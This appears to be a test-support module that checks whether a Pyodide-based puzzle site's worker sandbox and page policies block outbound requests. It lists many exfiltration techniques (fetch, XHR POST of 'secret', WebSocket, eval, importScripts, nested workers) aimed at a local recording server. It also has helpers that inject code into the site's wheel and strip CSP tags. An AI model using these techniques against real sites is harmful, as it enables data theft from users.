"""Attempts to send data to another server from Python in the worker.

A search is a program, and a malicious one may try to send out what it sees. Each
attempt is Python that uses `js`; {url} is the address of another origin, {socket} the
same for sockets. `Stranger` is the server of that origin.
"""

import json
import re
import shutil
import socket
import ssl
import threading
import zipfile
from collections.abc import Callable
from contextlib import suppress
from pathlib import Path

import trustme
from setup.tools import SITE
from website.manifest import NAME, write_manifest

__all__ = [
    "EVENTS",
    "SCHEMES",
    "VERBS",
    "WAYS",
    "WORKER",
    "Stranger",
    "altered_site",
    "hostile_site",
]

EVENTS = """
import asyncio
def settled(target, *names):
    future = asyncio.get_running_loop().create_future()
    def heard(event):
        if not future.done():
            future.set_result(event.type)
    for name in names:
        target.addEventListener(name, create_proxy(heard))
    return future
"""

WORKER = """
blob = js.Blob.new(to_js([{text}]), type="text/javascript")
worker = js.Worker.new(js.URL.createObjectURL(blob), {options})
await settled(worker, "message", "error")
"""

BLOCKS = "a request that blocks"
"""It blocks Python, so it is tried last."""

NESTED = "a worker"
"""The prefix of attempts by nested workers."""

WAYS = {
    "fetch": "await js.fetch('{url}')",
    "fetch without an answer": "await js.fetch('{url}', mode='no-cors')",
    "fetch that outlives its page": "await js.fetch('{url}', keepalive=True)",
    "a request of the old kind": """
request = js.XMLHttpRequest.new()
request.open("POST", "{url}")
request.send("secret")
await settled(request, "load", "error")
""",
    BLOCKS: """
request = js.XMLHttpRequest.new()
request.open("POST", "{url}", False)
request.send("secret")
""",
    "a socket": (
        "await settled(js.WebSocket.new('{socket}'), 'open', 'error', 'close')"
    ),
    "a stream of events": (
        "await settled(js.EventSource.new('{url}'), 'open', 'error')"
    ),
    "a cache": "await (await js.caches.open('x')).add('{url}')",
    "a typeface": "await js.FontFace.new('x', 'url({url})').load()",
    "eval": "await js.eval(\"fetch('{url}')\")",
    "a function made of text": "await js.Function.new(\"return fetch('{url}')\")()",
    "a module made of text": (
        "from pyodide.code import run_js\nawait run_js(\"import('{url}')\")"
    ),
    "a timer with a text": """
js.setTimeout("self['{url}'] = fetch('{url}').catch(() => 0)")
later = asyncio.get_running_loop().create_future()
js.setTimeout(create_proxy(lambda: later.set_result(None)), 1)
await later  # a timer that is refused tells nobody
await (getattr(js.self, "{url}", None) or later)
""",
    "a worker of its own": WORKER.replace(
        "{text}", "\"fetch('{url}').then(() => postMessage(0), () => postMessage(1))\""
    ).replace("{options}", "type='classic'"),
    "a worker that imports": WORKER.replace(
        "{text}", "\"import '{url}'; postMessage(0)\""
    ).replace("{options}", "type='module'"),
    "a worker that loads a script": WORKER.replace(
        "{text}", "\"try { importScripts('{url}') } catch {} postMessage(0)\""
    ).replace("{options}", "type='classic'"),
    "a worker written into its address": """
text = "fetch('{url}').finally(() => postMessage(0))"
worker = js.Worker.new("data:text/javascript," + js.encodeURIComponent(text))
await settled(worker, "message", "error")
""",
}

# Added to the bridge by a hostile wheel: a verb to check that Python works, and a verb
# that runs attempts and reports on a channel how each ended.
VERBS = """

import asyncio, json, textwrap
import js
from pyodide.ffi import create_proxy, to_js

async def attempt(text):
    space = {"js": js, "create_proxy": create_proxy, "to_js": to_js}
    exec(EVENTS + "async def work():\\n" + textwrap.indent(text, " "), space)
    try:
        await asyncio.wait_for(space["work"](), 10)
        return "ended"
    except BaseException as error:
        return repr(error)[:200]

async def attempt_all(ways):
    others = [[name, text] for name, text in ways if not name.startswith(BLOCKS)]
    ends = await asyncio.gather(*(attempt(text) for _, text in others))
    ended = {name: end for (name, _), end in zip(others, ends)}
    for name, text in ways:
        if name not in ended:
            ended[name] = await attempt(text)
    js.BroadcastChannel.new("ways").postMessage(json.dumps(ended))

def run(message):
    asyncio.ensure_future(attempt_all(message.fields["ways"]))
    return {}

VERBS["ready"] = lambda message: {}
VERBS["run"] = run
"""

ANSWER = (
    b"HTTP/1.1 200 OK\r\nAccess-Control-Allow-Origin: *\r\n"
    b"Content-Type: text/javascript\r\nContent-Length: 0\r\n"
    b"Connection: close\r\n\r\n"
)
WAY = re.compile(r"/way-(\d+)")
SCHEMES = {False: ("http", "ws"), True: ("https", "wss")}


class Stranger:
    """A server of another origin that records requests, with and without TLS."""

    def __init__(self) -> None:
        self.heard: set[str] = set()
        self.numbers: set[int] = set()
        self.tls = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        trustme.CA().issue_cert("127.0.0.1").configure_cert(self.tls)
        self.sockets = {
            safe: socket.create_server(("127.0.0.1", 0)) for safe in SCHEMES
        }
        for safe, listening in self.sockets.items():
            start_thread(self.listen, listening, safe)

    def ways(self, nested: bool = True) -> dict[str, str]:
        """Return every attempt with its address, by scheme.

        Those by nested workers can be excluded.
        """
        written = {}
        for safe, (scheme, socket_scheme) in SCHEMES.items():
            port = self.sockets[safe].getsockname()[1]
            for number, (name, text) in enumerate(WAYS.items()):
                if name.startswith(NESTED) and not nested:
                    continue
                address = f"127.0.0.1:{port}/way-{number}"
                text = text.replace("{url}", f"{scheme}://{address}")
                text = text.replace("{socket}", f"{socket_scheme}://{address}")
                written[f"{name}, {scheme}"] = text
        return written

    def listen(self, listening: socket.socket, safe: bool) -> None:
        """Accept connections until the socket is closed."""
        while True:
            try:
                caller, _ = listening.accept()
            except OSError:
                return
            start_thread(self.hear, caller, safe)

    def hear(self, caller: socket.socket, safe: bool) -> None:
        """Record the first line, and read the rest.

        Closing a connection with unread data resets it, and the browser might not see
        the answer.
        """
        with suppress(OSError), caller:
            if safe:
                caller = self.tls.wrap_socket(caller, server_side=True)
            with caller:
                line = caller.recv(4096).decode("latin-1").partition("\r")[0]
                if way := WAY.search(line):
                    self.numbers.add(int(way[1]))
                    self.heard |= self.named(int(way[1]), safe)
                caller.sendall(ANSWER)
                caller.shutdown(socket.SHUT_WR)
                while caller.recv(4096):
                    pass

    def named(self, number: int, safe: bool) -> set[str]:
        """Return the name of a recorded attempt."""
        return {
            f"{name}, {SCHEMES[safe][0]}" for name in list(WAYS)[number : number + 1]
        }

    def close(self) -> None:
        """Stop listening."""
        for listening in self.sockets.values():
            listening.close()


def start_thread(work: Callable[..., None], *given: object) -> None:
    """Run a function in a thread."""
    threading.Thread(target=work, args=given, daemon=True).start()


def altered_site(folder: Path, added: dict[str, str]) -> Path:
    """Copy the built site, with source appended to modules of the package."""
    shutil.copytree(SITE, folder)
    wheel = next((folder / "python").glob("pypuzzles-*.whl"))
    with zipfile.ZipFile(wheel) as archive:
        files = {name: archive.read(name) for name in archive.namelist()}
    for name, text in added.items():
        files[name] += text.encode()
        del files[f"{name}c"]  # outdated bytecode
    with zipfile.ZipFile(wheel, "w") as archive:
        for name, body in files.items():
            archive.writestr(name, body)
    result = json.loads((folder / NAME).read_text("utf-8"))
    write_manifest(folder, result["python"], result["later"])
    return folder


def hostile_site(folder: Path, protected: bool) -> Path:
    """Build a site whose bridge runs any Python.

    The unprotected one lacks the policies of its pages, and is otherwise the same.
    """
    added = f"\n\nEVENTS = {EVENTS!r}\nBLOCKS = {BLOCKS!r}\n{VERBS}"
    altered_site(folder, {"pypuzzles/bridge/handler.py": added})
    for page in () if protected else folder.rglob("*.html"):
        text = page.read_text("utf-8")
        bare = re.sub(r"<meta\s+http-equiv[^>]*>", "", text)
        assert bare != text
        page.write_text(bare, "utf-8")
    return folder
